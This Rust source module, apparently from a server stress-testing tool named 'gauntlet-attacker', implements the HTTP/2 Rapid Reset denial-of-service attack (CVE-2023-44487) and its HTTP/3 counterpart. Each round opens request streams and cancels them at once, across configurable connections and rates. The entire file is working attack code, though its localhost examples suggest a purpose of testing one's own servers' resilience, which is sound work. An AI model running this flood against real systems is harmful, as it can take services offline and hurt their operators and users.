//! Streams that are opened and cancelled at once (HTTP/2 Rapid Reset, CVE-2023-44487, and HTTP/3's counterpart).

use std::io::Write;

use clap::Args;

use super::feed::{self, H2, Load};
use crate::caps::Held;
use crate::context::{Common, Context, Protocol, SetupError};
use crate::http::{h2, h3};
use crate::outcome::Outcome;
use crate::quic::QuicSession;
use crate::quic_wire::frame;
use crate::quic_wire::transport_parameters::Stated;

/// Requests that are cancelled at once
///
/// A start is --requests requests, each with its cancellation. Over HTTP/2 (HEADERS, RST_STREAM) a cancelled stream does not count
/// against the server's limit of streams, so that only what the server does of its own accord bounds them. Over HTTP/3
/// (HEADERS, RESET_STREAM, STOP_SENDING) each takes one of the streams that the server allows (MAX_STREAMS): a start
/// for which they do not last is blocked, whatever it has sent.
#[derive(Args, Clone, Debug)]
#[command(after_long_help = "Examples:
  gauntlet-attacker rapid-reset --target 127.0.0.1:4433 --protocol h2 --rate 5000
  gauntlet-attacker rapid-reset --target 127.0.0.1:4433 --protocol h3 --rate 5000 --connections 10")]
pub struct RapidReset {
    #[command(flatten)]
    common: Common,
    /// Connections that starts are made on in turn
    #[arg(long, default_value = "1", value_name = "COUNT")]
    connections: Held,
    /// Requests of a start
    #[arg(long, default_value_t = 1, value_name = "COUNT", value_parser = clap::value_parser!(u8).range(1..=50))]
    requests: u8,
}

impl RapidReset {
    /// Runs it.
    ///
    /// # Errors
    /// If it cannot begin, or a line cannot be written.
    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
        let context = Context::new(&self.common, &[Protocol::H2, Protocol::H3])?;
        let connections = self.connections.count();
        if context.protocol == Protocol::H2 {
            feed::run::<OverH2>(&context, connections, self.requests, out).await
        } else {
            feed::run::<OverH3>(&context, connections, self.requests, out).await
        }
    }
}

struct OverH2(H2);

impl Load for OverH2 {
    type Options = u8;

    async fn open(context: &Context, _: &u8) -> Result<Self, Outcome> {
        H2::open(context).await.map(Self)
    }

    fn start(&mut self, context: &Context, requests: &u8) -> Result<(), Outcome> {
        let fields = h2::fields("GET", &context.host, &context.path);
        let flags = h2::flag::END_HEADERS | h2::flag::END_STREAM;
        for _ in 0..*requests {
            let stream = self.0.next_stream()?;
            h2::put_frame(&mut self.0.out, h2::kind::HEADERS, flags, stream, &fields);
            h2::put_frame(&mut self.0.out, h2::kind::RST_STREAM, 0, stream, &h2::CANCEL.to_be_bytes());
        }
        Ok(())
    }

    async fn turn(&mut self) -> Result<(), Outcome> {
        self.0.turn().await
    }
}

struct OverH3(QuicSession);

impl Load for OverH3 {
    type Options = u8;

    async fn open(context: &Context, _: &u8) -> Result<Self, Outcome> {
        feed::open_quic(context, &Stated::default()).await.map(Self)
    }

    fn start(&mut self, context: &Context, requests: &u8) -> Result<(), Outcome> {
        let client = &mut self.0.client;
        let request = h3::get(&context.host, &context.path);
        for _ in 0..*requests {
            let id = feed::request_quic(client, &request, false)?;
            let mut frames = Vec::with_capacity(16);
            frame::reset_stream(&mut frames, id, h3::REQUEST_CANCELLED, client.sent_on(id));
            frame::stop_sending(&mut frames, id, h3::REQUEST_CANCELLED);
            // Sent again if lost: else the server would keep the stream, and the next start would find none.
            client.send_frames(frames, true);
            client.forget(id);
        }
        Ok(())
    }

    async fn turn(&mut self) -> Result<(), Outcome> {
        feed::turn_quic(&mut self.0).await
    }
}
